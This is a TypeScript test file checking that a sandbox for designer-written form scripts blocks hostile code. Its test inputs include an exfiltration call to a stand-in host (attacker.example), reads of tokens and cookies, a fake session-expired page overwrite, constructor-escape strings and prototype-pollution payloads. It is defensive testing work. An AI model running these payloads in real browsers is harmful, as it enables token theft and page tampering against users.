// Hostile designer scripts, each contained by the sandbox: no page, storage, cookies, token or network to
// reach, no way out through constructors, no endless loop or memory bomb that stops the screen, and no
// change to the built-ins or prototypes the page or later scripts use.
import { afterEach, describe, expect, it } from 'vitest';
import { runScript, ScriptError } from './script';
import { mentionedNames, runInSandbox, SCRIPT_TIME_LIMIT_MS } from './script-sandbox';

const TOKEN = 'secret-bearer-token';
// What a page holds that a script must not reach (Node has no window: the test puts them on globalThis).
const page = globalThis as Record<string, unknown>;
page.sessionToken = TOKEN;
page.localStorage ??= { getItem: () => TOKEN };

afterEach(() => {
  expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  expect((Object.prototype as Record<string, unknown>).polluted).toBeUndefined();
});

const run = (script: string, scope: Record<string, unknown> = { data: {} }) => runScript(script, scope);
const failure = (script: string, scope?: Record<string, unknown>) => {
  try {
    run(script, scope);
  } catch (error) {
    expect(error).toBeInstanceOf(ScriptError);
    return (error as ScriptError).message;
  }
  throw new Error(`The script ran: ${script}`);
};

describe('the script sandbox', () => {
  it('has no page, storage, cookies, network or host globals to read', () => {
    for (const name of [
      'window',
      'document',
      'localStorage',
      'sessionStorage',
      'indexedDB',
      'fetch',
      'XMLHttpRequest',
      'WebSocket',
      'navigator',
      'location',
      'process',
      'require',
      'importScripts',
      'sessionToken',
      'setTimeout',
    ])
      expect(run(`typeof ${name}`), name).toBe('undefined');
    expect(failure('localStorage.getItem("token")')).toMatch(/ReferenceError/);
    expect(failure('document.cookie')).toMatch(/ReferenceError/);
    expect(failure('fetch("https://attacker.example/?t=" + data.x)')).toMatch(/ReferenceError/);
    expect(failure('document.body.innerHTML = "<h1>Session expired</h1>"')).toMatch(/ReferenceError/);
  });

  it('leads nowhere through constructors, this or the global object', () => {
    expect(run('(function () {}).constructor("return typeof window")()')).toBe('undefined');
    expect(
      run('[].constructor.constructor("return Object.keys(globalThis).includes(\'sessionToken\')")()'),
    ).toBe(false);
    expect(run('typeof this')).toBe('undefined');
    expect(
      run(
        'Object.keys(globalThis).filter((name) => !["_", "utils", "__renderTemplate", "formatAmount", "formatDate"].includes(name)).length',
      ),
    ).toBe(0);
  });

  it('sees its scope as data only: a live object is not passed', () => {
    const live = { element: { ownerDocument: page } } as Record<string, unknown>;
    live.self = live;
    expect(run('live', { live })).toBeNull();
    expect(run('typeof data.fn', { data: { fn: () => TOKEN } })).toBe('undefined');
  });

  it('stops an endless loop with a clear error, and the next script runs', () => {
    const started = Date.now();
    expect(failure('while (true) {}')).toMatch(
      new RegExp(`ran longer than ${SCRIPT_TIME_LIMIT_MS} ms and was stopped`),
    );
    expect(Date.now() - started).toBeLessThan(SCRIPT_TIME_LIMIT_MS * 5);
    expect(run('data.a + 1', { data: { a: 1 } })).toBe(2);
  });

  it('stops a memory bomb, and the next script runs', () => {
    expect(failure('const a = []; while (true) a.push(new Uint8Array(1e6));')).toMatch(
      /(ran longer than|used more than) .* and was stopped/,
    );
    expect(run('data.a * 2', { data: { a: 4 } })).toBe(8);
  }, 30_000);

  it('cannot change the built-ins, in the page or for later scripts', () => {
    expect(failure('Object.prototype.polluted = 1')).toMatch(/TypeError/);
    expect(failure('Array.prototype.map = () => "owned"')).toMatch(/TypeError/);
    expect(failure('_.get = () => "owned"')).toMatch(/TypeError/);
    expect(run('[1, 2].map((n) => n * 2)')).toEqual([2, 4]);
    expect(run('_.get(data, "a.b")', { data: { a: { b: 3 } } })).toBe(3);
    expect(failure('data.__proto__.polluted = 1')).toMatch(/TypeError/);
    const data: Record<string, unknown> = { a: 1 };
    run(
      'Object.defineProperty(data, "__proto__", { value: { polluted: 1 }, enumerable: true }); data.b = 2',
      { data },
    );
    expect(data.b).toBe(2);
    expect(Object.getPrototypeOf(data)).toBe(Object.prototype);
    expect(data.polluted).toBeUndefined();
  });

  it('leaves nothing behind for later scripts: the global object is frozen too', () => {
    expect(failure('globalThis.kept = data.secret', { data: { secret: 's1' } })).toMatch(/TypeError/);
    expect(failure('kept = data.secret', { data: { secret: 's1' } })).toMatch(/'kept' is not defined/);
    // Outside strict mode (Form.io's logic on the server) such an assignment fails silently: nothing kept.
    expect(runInSandbox(['data'], 'kept = data.secret; return 1;', { data: { secret: 's1' } })).toBe(1);
    expect(run('typeof kept')).toBe('undefined');
    expect(run('typeof globalThis.kept')).toBe('undefined');
  });
  it('settles a promise the script makes, and refuses one that waits on the outside', () => {
    expect(run('Promise.resolve(data.a).then((a) => a * 2)', { data: { a: 21 } })).toBe(42);
    expect(run('(async () => { data.saved = true; return "ok"; })()', { data: {} })).toBe('ok');
    expect(failure('Promise.reject(new Error("refused"))')).toMatch(/Error: refused/);
    expect(failure('new Promise(() => undefined)')).toMatch(/did not settle/);
  });

  it('copies changes to data back, and leaves data alone when the script did not change it', () => {
    const nested = { x: 1 };
    const data: Record<string, unknown> = { nested, gone: true };
    run('data.total = 5; delete data.gone;', { data });
    expect(data).toEqual({ nested: { x: 1 }, total: 5 });
    const kept: Record<string, unknown> = { nested };
    run('data.nested.x + 1', { data: kept });
    expect(kept.nested).toBe(nested);
  });
});

describe('mentionedNames (which scope values a source needs)', () => {
  it('finds whole identifiers only, $ included, and answers alike the second time', () => {
    const names = ['row', 'rowData', 'data', '$item', 'item'];
    const source = 'value = rowData.amount + $item.fee + dataset.x';
    expect(mentionedNames(source, names)).toEqual(['rowData', '$item']);
    expect(mentionedNames(source, names)).toEqual(['rowData', '$item']);
    expect(mentionedNames('row.id', names)).toEqual(['row']);
  });
});
